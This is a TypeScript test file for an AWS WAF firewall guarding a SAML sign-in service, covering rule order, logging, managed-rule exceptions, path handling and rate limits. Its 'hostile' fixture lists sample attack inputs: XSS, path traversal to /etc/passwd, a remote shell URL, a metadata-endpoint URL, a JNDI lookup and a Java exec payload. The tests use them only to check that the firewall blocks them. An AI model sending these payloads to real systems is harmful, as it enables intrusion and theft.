import { describe, expect, it } from 'vitest';
import { unbundled } from '../../infra/bundling/bundles.ts';
import { edgeLimits, throttleMargin, windowSeconds } from '../../infra/constructs/edge-limits.ts';
import { bodyRules, managedGroups } from '../../infra/constructs/managed-body-rules.ts';
import { readStage } from '../../infra/stages.ts';
import { gallery } from '../fixtures/apps.ts';
import { placeAndApps } from './changes/stage-settings.ts';
import { Firewall, type FirewallRule } from './firewall/firewall.ts';
import { modelledGroups } from './firewall/managed-rules.ts';
import { longLogoutQuery, postedBodies } from './firewall/posted-bodies.ts';
import type { VisitorRequest } from './firewall/visitor-request.ts';
import { type Properties, propertiesOf, resourcesOf, synthesize, templateOf } from './synthesize.ts';

const hosts: Readonly<Record<string, string>> = {
  timetrack: 'acme.timetrackenterprise.com',
  trakstar: 'perform.trakstar.com',
};
const apps = Object.values(gallery).filter(({ id }) => hosts[id] !== undefined);

function firewallOf(edge: object = {}, more: object = {}) {
  const stage = readStage('firewall', { firewall: { ...placeAndApps, edge, ...more } });
  const { edge: stack } = synthesize(stage, { codeOf: unbundled }).stacks;
  const template = templateOf(stack);
  const [acl] = propertiesOf(template, 'AWS::WAFv2::WebACL');
  const rules = acl?.['Rules'] as readonly FirewallRule[];
  const sets = new Map(
    Object.entries(resourcesOf(template, 'AWS::WAFv2::IPSet')).map(([id, { Properties }]) => [
      JSON.stringify({ 'Fn::GetAtt': [id, 'Arn'] }),
      Properties?.['Addresses'] as readonly string[],
    ]),
  );
  return { stage, template, acl, rules, fresh: (assumed = {}) => new Firewall(rules, sets, assumed) };
}

const { stage, template, acl, rules, fresh } = firewallOf();
/** The same, with limits that a test reaches soon. */
const low = firewallOf({ requestsPerFiveMinutes: 1_000 });
const behindApplication = firewallOf(
  {},
  {
    apps: {
      ...placeAndApps.apps,
      trakstar: { ...placeAndApps.apps.trakstar, applicationOrigin: 'app.example.com' },
    },
  },
);

const visit = (app: string, path: string, more: Partial<VisitorRequest> = {}): VisitorRequest => ({
  host: hosts[app] ?? app,
  path,
  headers: { 'user-agent': 'Mozilla/5.0' },
  from: '198.51.100.10',
  ...more,
});

const hostile = {
  script: 'x=<script>alert(1)</script>',
  traversal: 'x=../../etc/passwd',
  remote: 'x=http://203.0.113.9/shell.txt',
  metadata: 'x=http://169.254.169.254/latest/',
  lookup: `x=\${jndi:ldap://example.com/}`,
  java: 'x=(java.lang.Runtime).getRuntime().exec("whoami")',
  prototype: '{"__proto__":1}',
  large: 'x'.repeat(8_193),
};

describe('the firewall', () => {
  it('is where CloudFront takes it from, and lets through what no rule blocks', () => {
    expect(acl).toMatchObject({ Scope: 'CLOUDFRONT', DefaultAction: { Allow: {} } });
    expect(rules.map(({ Name }) => Name)).toEqual([
      'SignOnRate',
      'AssertionConsumerRate',
      'SetupRate',
      'SessionRate',
      'Rate',
      'AWSManagedRulesAmazonIpReputationList',
      'AWSManagedRulesKnownBadInputsRuleSet',
      'AWSManagedRulesCommonRuleSet',
      'BodyElsewhere',
      'LongQueryElsewhere',
      'NoUserAgentElsewhere',
    ]);
  });

  it('logs what it refuses, without cookies and queries', () => {
    const [logging] = propertiesOf(template, 'AWS::WAFv2::LoggingConfiguration');
    expect(logging).toMatchObject({
      RedactedFields: [{ SingleHeader: { Name: 'cookie' } }, { QueryString: {} }],
    });
    template.hasResourceProperties('AWS::Logs::LogGroup', { LogGroupName: 'aws-waf-logs-latchkey-firewall' });
  });

  it('knows each rule about bodies that AWS documents, by the label that AWS writes', () => {
    const modelled = Object.values(modelledGroups)
      .flatMap((group) => Object.entries(group))
      .filter(([name]) => name.endsWith('_BODY'))
      .map(([name, { label }]) => [name, label]);

    expect(bodyRules.map(({ name, label }) => [name, label]).toSorted()).toEqual(modelled.toSorted());
    for (const { group, name } of bodyRules) {
      const statement = rules.find(({ Name }) => Name === group)?.Statement['ManagedRuleGroupStatement'];
      expect(statement?.['RuleActionOverrides']).toContainEqual({ Name: name, ActionToUse: { Count: {} } });
    }
  });

  it('costs no more capacity units than a web ACL has in its price', () => {
    expect(capacityOf(rules)).toBeLessThanOrEqual(1_500);
    expect(capacityOf(behindApplication.rules)).toBeLessThanOrEqual(1_500);
  });

  it('has no expression that is longer than WAF takes', () => {
    const expressions = JSON.stringify(rules).matchAll(/"RegexString":"([^"]+)"/g);
    for (const [, expression = ''] of expressions) expect(expression.length).toBeLessThanOrEqual(512);
  });
});

describe('what the product is posted', () => {
  const posts = apps.flatMap((app) =>
    Object.entries(postedBodies).flatMap(([what, { to, body }]) =>
      app.paths[to].flatMap((path) => [path, `${path}/`].map((form) => [what, app.id, form, body] as const)),
    ),
  );

  it.each(posts)('passes: %s to %s%s', (_, app, path, body) => {
    expect(fresh().judge(visit(app, path, { body }))).toBe('allowed');
    expect(behindApplication.fresh().judge(visit(app, path, { body }))).toBe('allowed');
    // Whatever AWS's patterns are: they are not published, and change.
    expect(fresh({ everyBodyRuleMatches: true }).judge(visit(app, path, { body }))).toBe('allowed');
  });

  it('would not pass without the exceptions: the model finds each rule’s pattern in some of it', () => {
    const found = Object.values(postedBodies).flatMap(({ body }) =>
      Object.values(modelledGroups).flatMap((group) =>
        Object.entries(group)
          .filter(
            ([name, { matches }]) => name.endsWith('_BODY') && matches(visit('trakstar', '/', { body })),
          )
          .map(([name]) => name),
      ),
    );
    expect(new Set(found)).toEqual(
      new Set(['SizeRestrictions_BODY', 'GenericLFI_BODY', 'CrossSiteScripting_BODY', 'GenericRFI_BODY']),
    );
  });

  it('passes where a Reply URL was mistaken, so that a page can say so', () => {
    const { body } = postedBodies['a SAML response with 150 groups'] ?? { body: '' };
    for (const path of ['/auth/saml/', '/auth/saml', '/auth/saml/metadata']) {
      expect(fresh().judge(visit('trakstar', path, { body }))).toBe('allowed');
    }
  });

  it('passes as a long signed query at logout, and nowhere else', () => {
    expect(Buffer.byteLength(longLogoutQuery)).toBeGreaterThan(2_048);
    const query = longLogoutQuery;
    expect(fresh().judge(visit('trakstar', '/auth/saml/logout', { query }))).toBe('allowed');
    expect(fresh().judge(visit('trakstar', '/auth/saml/', { query }))).toBe('LongQueryElsewhere');
    expect(fresh().judge(visit('trakstar', '/session', { query }))).toBe('LongQueryElsewhere');
  });
});

describe('elsewhere', () => {
  it.each(Object.entries(hostile))('a body is blocked: %s', (_, body) => {
    for (const path of ['/sign-out', '/session', '/welcome', '/anything']) {
      expect(fresh().judge(visit('trakstar', path, { body }))).toBe('BodyElsewhere');
    }
  });

  it.each([
    '/auth/saml/%63allback',
    '/x/../auth/saml/callback',
    '/auth/saml/callback/more',
    '/auth/saml/callbacks',
    '/AUTH/saml/callback',
    '/api/v2/azure/callback',
  ])('counts every other way to write a path: %s', (path) => {
    expect(fresh().judge(visit('trakstar', path, { body: hostile.large }))).toBe('BodyElsewhere');
  });

  it('counts another host', () => {
    const request = { body: hostile.large };
    expect(fresh().judge(visit('other.example.com', '/auth/saml/callback', request))).toBe('BodyElsewhere');
    expect(fresh().judge(visit('PERFORM.trakstar.com', '/auth/saml/callback', request))).toBe('allowed');
  });

  it('a request without User-Agent is blocked, but not the back end that asks for a session', () => {
    const headers = {};
    expect(fresh().judge(visit('trakstar', '/session', { headers }))).toBe('allowed');
    expect(fresh().judge(visit('trakstar', '/auth/saml/', { headers }))).toBe('NoUserAgentElsewhere');
  });
});

describe('the vendor’s application behind the same host', () => {
  const { fresh: shared } = behindApplication;

  it.each(['script', 'traversal', 'remote', 'large'] as const)('takes what it takes: %s', (kind) => {
    expect(shared().judge(visit('trakstar', '/reviews', { body: hostile[kind] }))).toBe('allowed');
    expect(shared().judge(visit('trakstar', '/', { headers: {} }))).toBe('allowed');
  });

  it.each(['lookup', 'java', 'prototype'] as const)('is kept from known attacks: %s', (kind) => {
    expect(shared().judge(visit('trakstar', '/reviews', { body: hostile[kind] }))).toBe('BodyElsewhere');
  });

  it('is visited as often as people like', () => {
    const firewall = shared();
    for (let n = 0; n < 12_000; n += 1) firewall.judge(visit('trakstar', '/reviews'));
    expect(firewall.judge(visit('trakstar', '/reviews'))).toBe('allowed');
    expect(firewall.judge(visit('trakstar', '/'))).toBe('allowed');
  });

  it('changes nothing for Latchkey’s own paths', () => {
    for (const body of Object.values(hostile)) {
      expect(shared().judge(visit('trakstar', '/sign-out', { body }))).toBe('BodyElsewhere');
    }
  });
});

describe('the limits of an address', () => {
  const limits = edgeLimits(low.stage.edge ?? never(), low.stage.throttles);
  const many = (firewall: Firewall, count: number, request: VisitorRequest) => {
    for (let n = 0; n < count; n += 1) firewall.judge(request);
    return firewall.judge(request);
  };

  it.each([
    ['/auth/saml/', 'SignOnRate', limits.signOn],
    ['/auth/saml/callback', 'AssertionConsumerRate', limits.assertionConsumer],
    ['/auth/saml/setup', 'SetupRate', limits.setup],
    ['/welcome', 'Rate', limits.all],
  ])('at %s: %s', (path, rule, limit) => {
    const firewall = low.fresh();
    expect(many(firewall, limit - 1, visit('trakstar', path))).toBe('allowed');
    expect(firewall.judge(visit('trakstar', path))).toBe(rule);
    expect(firewall.judge(visit('trakstar', path, { from: '203.0.113.5' }))).toBe('allowed');
  });

  it('close one way in and no other', () => {
    const firewall = low.fresh();
    expect(many(firewall, limits.signOn, visit('trakstar', '/auth/saml/'))).toBe('SignOnRate');
    expect(firewall.judge(visit('trakstar', '/auth/saml/callback'))).toBe('allowed');
    expect(firewall.judge(visit('trakstar', '/auth/saml/setup'))).toBe('allowed');
    expect(firewall.judge(visit('trakstar', '/session'))).toBe('allowed');
  });

  it.each(['/auth/saml/%63allback', '/x/../auth/saml/callback', '/auth/saml/callback/'])(
    'count every way to write a path: %s',
    (path) => {
      const firewall = low.fresh();
      many(firewall, limits.assertionConsumer, visit('trakstar', '/auth/saml/callback'));
      expect(firewall.judge(visit('trakstar', path))).toBe('AssertionConsumerRate');
    },
  );

  it('never refuse a back end that asks for the session of everybody, from one address', () => {
    const firewall = low.fresh();
    const request = visit('trakstar', '/session', { headers: {}, from: '203.0.113.7' });
    expect(many(firewall, 20 * limits.all, request)).toBe('allowed');
    // More than the API answers at all.
    expect(limits.session).toBe(stage.throttles.other.perSecond * windowSeconds);
  });

  it('hold for others at /session, once the back ends are known', () => {
    const firewall = firewallOf({
      ...low.stage.edge,
      backEndAddresses: ['203.0.113.7/32', '2001:db8::7/128'],
    }).fresh();
    const from = (address: string) => visit('trakstar', '/session', { from: address });
    expect(many(firewall, 5 * limits.all, from('203.0.113.7'))).toBe('allowed');
    expect(many(firewall, 5 * limits.all, from('2001:db8::7'))).toBe('allowed');
    expect(many(firewall, limits.all, from('198.51.100.10'))).toBe('SessionRate');
    expect(many(firewall, limits.all, visit('trakstar', '/welcome', { from: '203.0.113.7' }))).toBe('Rate');
  });

  it('are far below what all addresses together may send: the throttles of the API', () => {
    const limits = edgeLimits(stage.edge ?? never(), stage.throttles);
    const share = (limit: number) => limit / windowSeconds;
    const { signOn, assertionConsumer, other } = stage.throttles;
    expect(signOn.perSecond / share(limits.signOn)).toBeGreaterThanOrEqual(throttleMargin);
    expect(assertionConsumer.perSecond / share(limits.assertionConsumer)).toBeGreaterThanOrEqual(
      throttleMargin,
    );
    expect(other.perSecond / share(limits.all)).toBeGreaterThanOrEqual(throttleMargin);
  });

  it('are refused at synthesis where a throttle is not far above them', () => {
    expect(() => firewallOf({ requestsPerFiveMinutes: 100_000 })).toThrow(
      'throttles.signOn.perSecond (150) is less than 10 times what the firewall lets one address send (30000 in five minutes): raise it to 1000',
    );
    expect(() => firewallOf({}, { throttles: { other: { perSecond: 200, burst: 400 } } })).toThrow(
      'throttles.other.perSecond (200) is less than 10 times',
    );
  });
});

/** @see https://docs.aws.amazon.com/waf/latest/developerguide/aws-waf-capacity-units.html */
function capacityOf(all: readonly FirewallRule[]): number {
  const unitsOf = (statement: Properties): number => {
    const [[kind, inner] = ['', {}]] = Object.entries(statement) as [string, Properties][];
    const transformed = ((inner['TextTransformations'] ?? []) as readonly { readonly Type: string }[]).filter(
      ({ Type }) => Type !== 'NONE',
    );
    const scope = inner['ScopeDownStatement'] as Properties | undefined;
    const nested = [
      ...((inner['Statements'] ?? []) as readonly Properties[]),
      ...(inner['Statement'] === undefined ? [] : [inner['Statement'] as Properties]),
      ...(scope === undefined ? [] : [scope]),
    ].reduce((sum, each) => sum + unitsOf(each), 0);
    const own: Readonly<Record<string, number>> = {
      RateBasedStatement: 2,
      LabelMatchStatement: 1,
      IPSetReferenceStatement: 1,
      RegexMatchStatement: 3,
      ByteMatchStatement: 2,
      ManagedRuleGroupStatement:
        managedGroups[inner['Name'] as keyof typeof managedGroups]?.capacityUnits ?? 0,
    };
    return (own[kind] ?? 0) + 10 * transformed.length + nested;
  };
  return all.reduce((sum, { Statement }) => sum + unitsOf(Statement), 0);
}

function never(): never {
  throw new Error('The stage has no edge');
}
